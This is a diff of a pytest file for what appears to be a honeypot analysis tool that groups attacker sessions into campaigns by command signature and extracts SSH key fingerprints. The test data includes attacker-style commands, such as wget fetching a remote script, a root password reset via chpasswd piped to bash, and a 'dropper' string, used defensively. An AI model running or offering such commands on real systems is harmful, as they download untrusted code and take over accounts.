@@ -7,7 +7,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from snapshots.domain.behaviour import LONGEST_COMMAND, Behaviour, Trait, Traits, command, key_fingerprints, login
+from snapshots.domain.behaviour import Behaviour, Trait, Traits, command, login
+from snapshots.domain.command import LONGEST_COMMAND, key_fingerprints
 from tests.strategies import NOON, moments, traits
 
 KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIKLZcQRgqFpJoTw+fwkPGVTpbmcEXr1dP/XoOZ7Yx219"
@@ -68,6 +69,7 @@ def test_commands_are_kept_in_their_order_and_without_loose_white_space() -> Non
     assert behaviour.first(Trait.URL) is None
     assert [len(each.texts(Trait.COMMAND)[0]) for each in long] == [LONGEST_COMMAND] * 2
     assert long[0].command_signature != long[1].command_signature
+    assert command("x" * LONGEST_COMMAND * 2 + "é") == command("x" * LONGEST_COMMAND * 2 + "é")
 
 
 def signature(*commands: str) -> str | None:
@@ -76,9 +78,13 @@ def signature(*commands: str) -> str | None:
 
 def test_a_campaign_has_one_signature() -> None:
     """Though each session fetches from another address and sets another password."""
-    assert signature("wget http://1.2.3.4/a.sh", 'echo "root:Xy12"|chpasswd|bash') == signature(
-        "wget  http://5.6.7.88/a.sh", 'echo "root:abcd" | chpasswd|bash'.replace(" | ", "|")
+    assert signature("wget http://1.2.3.4/a.sh", 'id; echo "root:Xy12"|chpasswd|bash') == signature(
+        "wget  http://5.6.7.88/a.sh", "id; echo root:abcd   |  chpasswd |bash"
     )
+    assert signature('echo -e "a\\nb\\nb"|passwd') != signature('echo -e "a\\nb\\nb"|bash')
+    assert signature("ls|x", "y|chpasswd") != signature("id|x", "y|chpasswd")
+    dropper = "wget http://1.2.3.4/a.sh; " + "x" * LONGEST_COMMAND
+    assert signature(dropper) == signature(dropper.replace("1.2.3.4", "100.100.100.100")) != signature(dropper + "y")
     assert signature("wget http://1.2.3.4/a.sh") != signature("wget http://1.2.3.4/b.sh")
     assert signature("a", "b") != signature("b", "a")
     assert signature() is None
@@ -99,7 +105,18 @@ def test_the_fingerprint_of_a_key_in_a_command_is_the_one_of_ssh_keygen(text: st
     assert Behaviour.of([(NOON, command(text))]).texts(Trait.KEY) == (FINGERPRINT,)
 
 
-@pytest.mark.parametrize("text", ["", "ssh-rsa", f"ssh-rsa {KEY[:20]}", f"ssh-dsa1024 {KEY}", f"ssh-rsa {KEY}A"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "ssh-rsa",
+        f"ssh-rsa {KEY[:20]}",
+        f"ssh-dsa1024 {KEY}",
+        f"ssh-rsa {KEY}",
+        "ssh-rsa " + "A" * 40,
+        f"ssh-ed25519 {KEY[:41]}",
+    ],
+)
 def test_what_is_no_key_has_no_fingerprint(text: str) -> None:
     """And no error either: every text comes from an attacker."""
-    assert FINGERPRINT not in set(key_fingerprints(text))
+    assert list(key_fingerprints(text)) == []
